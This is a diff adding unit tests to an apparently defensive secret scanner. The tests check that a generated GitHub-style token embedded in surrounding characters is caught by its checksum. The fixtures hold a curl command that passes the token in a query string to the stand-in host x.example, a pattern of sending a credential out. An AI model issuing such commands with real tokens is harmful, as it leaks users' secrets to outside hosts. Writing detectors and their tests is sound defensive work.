@@ -32,6 +32,24 @@ describe('checksum', () => {
   });
 });
 
+describe('a token glued to a word', () => {
+  const body = makeSample('{A30}', seededRandom(33));
+  const token = `ghp_${body}${base62Checksum(body)}`;
+  const find = (text: string) =>
+    findSecrets([{ where: 'command', text }]).hits.filter(({ tier }) => tier === 'deny');
+
+  it.each([`x${token}`, `${token}x`, `a1${token}9z`, `q_${token}_q`])(
+    'is found by its checksum: %#',
+    (text) => {
+      expect(find(`curl https://x.example/?q=${text}`)).toHaveLength(1);
+    },
+  );
+
+  it('is none without it', () => {
+    expect(find(`curl https://x.example/?q=xghp_${body}a1B2c3`)).toEqual([]);
+  });
+});
+
 describe('measureEntropy', () => {
   it.each([
     ['aaaaaaaa', 0],
